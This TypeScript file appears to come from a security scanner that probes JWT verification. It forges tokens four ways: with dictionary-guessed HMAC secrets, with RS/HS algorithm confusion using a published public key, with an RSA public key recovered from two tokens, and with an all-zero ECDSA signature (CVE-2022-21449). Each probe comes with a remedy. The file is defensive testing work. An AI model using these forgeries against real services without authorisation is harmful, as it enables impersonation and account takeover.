import { createPublicKey } from 'node:crypto';
import { inconclusive, type OperationContext, safe, skipped } from '../attack.ts';
import { jwtOf, tokenIn } from '../credentials.ts';
import { dictionary, guessSecret } from '../jwt/dictionary.ts';
import { publicKeyTexts } from '../jwt/key-texts.ts';
import type { PublicKey } from '../jwt/keys.ts';
import { recoverRsaKeys } from '../jwt/rsa-recovery.ts';
import { type Jwt, parseJwt, refreshed, signHmac, signingInput } from '../jwt/token.ts';
import { remedies } from '../remedies.ts';
import { logIn } from '../session.ts';
import { jwtAttack } from './jwt-signature.ts';

const confusion = remedies['jwt-mixed-alg-families'];

export const weakSecret = jwtAttack(
  {
    id: 'weak-secret',
    number: 'D14',
    title: 'The secret that JWTs are signed with was guessed',
    cwe: [521, 326],
    severity: 'critical',
    why: 'Whoever has one token can try secrets without asking anybody, and then sign tokens for any user.',
    remedy: remedies['jwt-weak-secret'],
  },
  (jwt, { keys, settings }) => {
    const alg = String(jwt.header.alg);
    if (!alg.startsWith('HS')) return skipped(`The token is signed by ${alg}, not with a secret.`);
    const secret = guessSecret(jwt, dictionary(settings.dictionary, jwt.claims));
    if (secret === undefined) return safe('It is none of the common ones.');
    keys.signing ??= { kind: 'hmac', secret, origin: 'the secret that was guessed' };
    return [
      {
        what: `a token that was signed with a guessed secret of ${secret.length} bytes`,
        token: signHmac(jwt.header, { ...refreshed(jwt.claims), jti: 'countersign-probe' }, secret),
        recipe: `The valid token's claims, signed anew by ${alg} with a secret of ${secret.length} bytes that stands in a list of common ones.`,
      },
    ];
  },
);

export const hmacConfusion = jwtAttack(
  {
    id: 'rs-hs-confusion',
    number: 'D15',
    title: 'A public key is accepted as HMAC secret',
    cwe: [347],
    severity: 'critical',
    why: 'Everybody has the public key, so everybody can sign.',
    remedy: confusion,
  },
  (jwt, { keys }) => {
    if (String(jwt.header.alg).startsWith('HS'))
      return skipped('The token is signed with a secret, not with a key pair.');
    if (keys.publicKeys.length === 0) return skipped('No public key was found.');
    return keys.publicKeys.flatMap((key) => confused(jwt, key));
  },
  { isImplied: true },
);

function confused(jwt: Jwt, publicKey: PublicKey) {
  return publicKeyTexts(publicKey).flatMap(({ form, text }) =>
    ['HS256', 'HS384', 'HS512'].map((alg) => ({
      what: `a token signed by ${alg} with the public key as secret`,
      token: signHmac({ ...jwt.header, alg }, refreshed(jwt.claims), text),
      recipe: `The valid token's claims, signed by ${alg} with the public key of ${publicKey.origin} as ${form}.`,
    })),
  );
}

export const recoveredKeyConfusion = jwtAttack(
  {
    id: 'rs-hs-recovered-key',
    number: 'D16',
    title: 'A public key that is not published is accepted as HMAC secret',
    cwe: [347],
    severity: 'critical',
    why: 'The public key can be computed from two tokens, so whoever has two can sign.',
    remedy: confusion,
  },
  async (jwt, context) => {
    if (!/^RS(256|384|512)$/.test(String(jwt.header.alg)))
      return skipped('The token is not signed by RS256, RS384 or RS512.');
    if (context.keys.publicKeys.length > 0) return skipped('The public key is published (rs-hs-confusion).');
    const second = await secondToken(jwt, context);
    if (second === undefined)
      return skipped('It takes two tokens of one key: give a login recipe, or a second credential.');
    const recovered = recoverRsaKeys(jwt, second);
    if (recovered.length === 0)
      return inconclusive(
        'No key was found for the exponents 3 to 257, and for 65537 it takes longer than a probe may: give the public key (--jwt-public-key), which is tried as a published one is.',
      );
    return recovered.flatMap((jwk) =>
      confused(jwt, { key: createPublicKey({ key: jwk, format: 'jwk' }), jwk, origin: 'two tokens' }),
    );
  },
  { isImplied: true },
);

/** Another token of the same key: of the other identities, of a fresh login. */
async function secondToken(jwt: Jwt, { settings, client, credential }: OperationContext): Promise<Jwt | undefined> {
  const given = [settings.lowScope, settings.other, settings.admin, settings.expired, settings.foreign]
    .map((one) => (one === undefined ? undefined : jwtOf(one)))
    .concat(settings.otherTokens.map(parseJwt));
  const fits = (other: Jwt | undefined): other is Jwt =>
    other !== undefined &&
    other.signed !== jwt.signed &&
    other.header.alg === jwt.header.alg &&
    other.header.kid === jwt.header.kid;
  const found = given.find(fits);
  if (found !== undefined || settings.login === undefined) return found;
  // Tokens of one second are alike where only iat tells them apart.
  await new Promise((resolve) => setTimeout(resolve, 1100));
  const session = await logIn(client, settings.login, credential);
  const fresh = session === undefined ? undefined : parseJwt(tokenIn(session.credential));
  return fits(fresh) ? fresh : undefined;
}

export const ecdsaZero = jwtAttack(
  {
    id: 'ecdsa-zero',
    number: 'D17',
    title: 'An ECDSA signature of zeros is accepted',
    cwe: [347],
    severity: 'critical',
    why: 'The verifier does not check that r and s are not zero (CVE-2022-21449): such a signature is valid for everything.',
    remedy: 'Update the runtime or library that verifies ECDSA signatures.',
  },
  (jwt) => {
    const sizes: Readonly<Record<string, number>> = { ES256: 64, ES384: 96, ES512: 132 };
    const alg = String(jwt.header.alg);
    if (sizes[alg] === undefined) return skipped(`The token is signed by ${alg}, not by ECDSA.`);
    const input = signingInput(jwt.header, { ...refreshed(jwt.claims), jti: 'countersign-probe' });
    const der = Buffer.from('3006020100020100', 'hex');
    return [Buffer.alloc(sizes[alg]), der].map((signature) => ({
      what: 'a token whose ECDSA signature is all zeros',
      token: `${input}.${signature.toString('base64url')}`,
      recipe: "The valid token's claims changed, under a signature with r = s = 0.",
    }));
  },
  { isImplied: true },
);
